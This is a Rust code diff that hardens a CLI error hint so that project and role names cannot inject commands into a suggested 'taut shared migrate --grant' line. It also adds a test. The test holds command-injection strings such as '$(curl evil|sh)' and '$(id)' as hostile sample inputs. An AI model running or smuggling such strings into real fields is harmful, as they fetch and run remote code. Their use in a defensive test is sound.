@@ -14,6 +14,7 @@ use crate::printer::{Printer, text};
 use crate::{past_time, person, shared_queue};
 use host::paths::PathVariables;
 use model::Ms;
+use policy::config::sections::QueueName;
 use shared_store::{FleetServer, Patience, RecordProject, RecordQuery};
 use std::path::Path;
 use std::time::Duration;
@@ -116,18 +117,30 @@ impl FleetQuestion {
 
 /// Nobody may read another project's record by having found the server.
 fn not_granted(role: &str, closed: &[&RecordProject]) -> CliError {
-    let (role, names) = (model::text::line(role, 64), named(closed));
-    CliError::failed(format!("the record of {names} is not shown to {role}: nobody granted it")).hint(format!(
-        "whoever owns the server's schema grants it: `taut shared migrate --grant {role}={}`",
-        closed.first().map(|one| model::text::line(&one.project, 100)).unwrap_or_default()
-    ))
+    let project = closed.first().map(|one| one.project.as_str()).unwrap_or_default();
+    let what = format!("the record of {} is not shown to {}: nobody granted it", named(closed), shown(role));
+    CliError::failed(what).hint(format!("whoever owns the server's schema grants it: `{}`", grant(role, project)))
+}
+
+/// The command for it. Members of the team name projects, and whoever owns the schema is to copy this into a shell: only what
+/// says nothing to one is put into it.
+fn grant(role: &str, project: &str) -> String {
+    let plain = |letter: char| letter.is_ascii_alphanumeric() || matches!(letter, '_' | '-' | '.');
+    let role = if !role.is_empty() && role.chars().all(plain) { role } else { "<role>" };
+    let project = if QueueName::accepts(project) { project } else { "<project>" };
+    format!("taut shared migrate --grant {role}={project}")
 }
 
 fn named(projects: &[&RecordProject]) -> String {
     const MOST: usize = 5;
     let more = projects.len().saturating_sub(MOST);
-    let names: Vec<String> = projects.iter().take(MOST).map(|one| model::text::line(&one.project, 100)).collect();
+    let names: Vec<String> = projects.iter().take(MOST).map(|one| shown(&one.project)).collect();
     if more > 0 { format!("{} and {more} more", names.join(", ")) } else { names.join(", ") }
+}
+
+/// A name of the server's, which is to look like no command of ours.
+fn shown(name: &str) -> String {
+    model::text::line(name, 100).replace('`', "'")
 }
 
 /// What the projects are called on the server. An agent's is its own.
@@ -166,4 +179,28 @@ fn unknown_project() -> CliError {
 fn moment(at: i64) -> Ms {
     const FARTHEST: i64 = 4_102_444_800_000;
     Ms(at.clamp(0, FARTHEST))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn x3_no_name_that_a_member_gave_to_a_project_or_a_role_becomes_part_of_the_command_that_helps() {
+        let refused = |role: &str, project: &str| {
+            let closed = RecordProject { project: project.into(), readable: false, role: role.into() };
+            format!("{:?}", not_granted(role, &[&closed]))
+        };
+        let plain = refused("ada", "acme/shop");
+        assert!(plain.contains("`taut shared migrate --grant ada=acme/shop`"), "{plain}");
+        for project in ["$(curl evil|sh)", "x; curl evil|sh", "`curl evil|sh`", "a b", ""] {
+            let said = refused("ada", project);
+            assert!(said.contains("`taut shared migrate --grant ada=<project>`"), "{said}");
+            assert!(!said.contains("`curl"), "{said}");
+        }
+        for role in ["$(id)", "a'b", "ada\n", "a b", ""] {
+            let said = refused(role, "acme/shop");
+            assert!(said.contains("`taut shared migrate --grant <role>=acme/shop`"), "{said}");
+        }
+    }
 }
